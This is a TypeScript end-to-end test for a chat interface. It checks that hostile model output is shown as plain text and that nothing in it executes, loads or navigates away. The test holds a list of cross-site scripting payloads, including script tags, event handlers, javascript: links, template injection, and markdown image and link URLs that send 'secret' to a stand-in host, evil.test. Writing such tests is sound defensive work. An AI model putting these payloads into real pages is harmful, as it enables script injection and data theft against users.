import { typographic } from '@understudy/contract/typography';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { streamed } from '../server/testing/fake-replies.ts';
import { say, startConversation, untilQuiet } from './support/chat.ts';
import { openProviderStage, type ProviderStage } from './support/provider-stage.ts';

/** Model output that would run, load or navigate if it were treated as anything but text. */
const HOSTILE = [
  '<script>window.hacked=1</script>',
  '<img src=x onerror="window.hacked=1">',
  '<svg onload="window.hacked=1"><a xlink:href="javascript:window.hacked=1">x</a></svg>',
  '<iframe src="https://evil.test/frame"></iframe><object data="https://evil.test/o"></object>',
  '<body onload=window.hacked=1><details open ontoggle=window.hacked=1>x</details>',
  '<link rel=stylesheet href="https://evil.test/s.css"><style>@import url(https://evil.test/i.css)</style>',
  '<meta http-equiv="refresh" content="0;url=https://evil.test/">',
  '<form action="https://evil.test/"><input name=secret autofocus onfocus="window.hacked=1"></form>',
  '<video src="https://evil.test/v.mp4" autoplay onerror="window.hacked=1"></video>',
  '![a picture](https://evil.test/leak?words=secret)',
  '[a link](javascript:window.hacked=1) [another](https://evil.test/?words=secret)',
  '[ref]: https://evil.test/ "title" ![x][ref] <https://evil.test/auto>',
  'https://evil.test/plain?words=secret and www.evil.test and mailto:a@evil.test',
  '&lt;img src=x onerror=window.hacked=1&gt; &#60;script&#62;window.hacked=1&#60;/script&#62;',
  '</p></div></main><script src="https://evil.test/x.js"></script>',
  '<!-- --><![CDATA[<script>window.hacked=1</script>]]>',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: it is meant to stay one
  '{{constructor.constructor("window.hacked=1")()}} ${window.hacked=1} <%= window.hacked=1 %>',
  '`<img src=x onerror=window.hacked=1>` ```html\n<script>window.hacked=1</script>\n```',
  '\\u003cscript\\u003ewindow.hacked=1\\u003c/script\\u003e',
  '<a href="data:text/html,<script>opener.hacked=1</script>" target=_blank ping="https://evil.test/ping">x</a>',
];

describe('a hostile model', () => {
  let stage: ProviderStage;
  beforeAll(async () => {
    stage = await openProviderStage();
  });
  afterAll(() => stage.close());

  it('M4: whatever a model writes is text: nothing runs, nothing is loaded, nothing leads away', async () => {
    const { page, problems, close } = await stage.visit('/chat');
    const dialogs: string[] = [];
    page.on('dialog', (dialog) => {
      dialogs.push(dialog.message());
      void dialog.dismiss();
    });
    const parts = await startConversation(page);
    for (const words of HOSTILE) {
      stage.provider.script(streamed(words));
      const before = await parts.twinLines.count();
      await say(parts, 'Go on');
      await parts.twinLines.nth(before).waitFor();
      await untilQuiet(page);
      // Exactly the model's text, but for white space and typographic quotes.
      const shown = (await parts.twinLines.nth(before).innerText()).replace(/\s+/g, ' ');
      expect(shown).toContain(typographic(words).replace(/\s+/g, ' '));
    }
    // The same applies to history after a reload.
    await page.reload();
    await parts.twinLines.nth(HOSTILE.length - 1).waitFor();
    expect(
      await parts.log.locator('a, img, svg, script, style, link, iframe, object, form, input, video, meta').count(),
    ).toBe(0);
    expect(await page.evaluate(() => 'hacked' in window)).toBe(false);
    expect(new URL(page.url()).pathname).toBe('/chat');
    expect(dialogs).toEqual([]);
    // No request to another origin was attempted, not even a blocked one.
    expect(problems).toEqual([]);
    await close();
  });
});
